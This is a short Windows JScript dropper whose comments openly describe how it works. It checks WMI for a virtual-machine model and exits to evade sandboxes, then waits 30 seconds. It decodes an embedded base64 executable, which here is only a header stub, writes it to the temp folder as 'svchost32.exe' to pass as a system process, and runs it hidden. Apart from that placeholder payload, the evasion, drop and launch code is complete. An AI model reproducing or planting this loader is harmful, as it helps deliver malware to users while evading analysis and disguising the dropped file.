// The payload travels inside the script as base64 and is decoded with the
// MSXML DOM trick, written with ADODB.Stream, started with
// Shell.Application, after a WMI sandbox check and a long sleep.
var b64 = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUuDQ0KJAAAAAAAAAA=";
var wmi = GetObject("winmgmts:\\\\.\\root\\cimv2");
var e = new Enumerator(wmi.ExecQuery("SELECT * FROM Win32_ComputerSystem"));
for (; !e.atEnd(); e.moveNext()) { if (String(e.item().Model).indexOf("Virtual") >= 0) { WScript.Quit(); } }
WScript.Sleep(30000);
var dom = new ActiveXObject("MSXML2.DOMDocument.6.0");
var el = dom.createElement("tmp");
el.dataType = "bin.base64";
el.text = b64;
var st = new ActiveXObject("ADODB.Stream");
st.Type = 1; st.Open(); st.Write(el.nodeTypedValue);
var dir = new ActiveXObject("Scripting.FileSystemObject").GetSpecialFolder(2).Path;
st.SaveToFile(dir + "\\svchost32.exe", 2); st.Close();
var dict = new ActiveXObject("Scripting.Dictionary");
dict.Add("exe", dir + "\\svchost32.exe");
new ActiveXObject("Shell.Application").ShellExecute(dict.Item("exe"), "/silent", "", "open", 0);
WScript.Quit(0);
WScript.Echo("never reached");
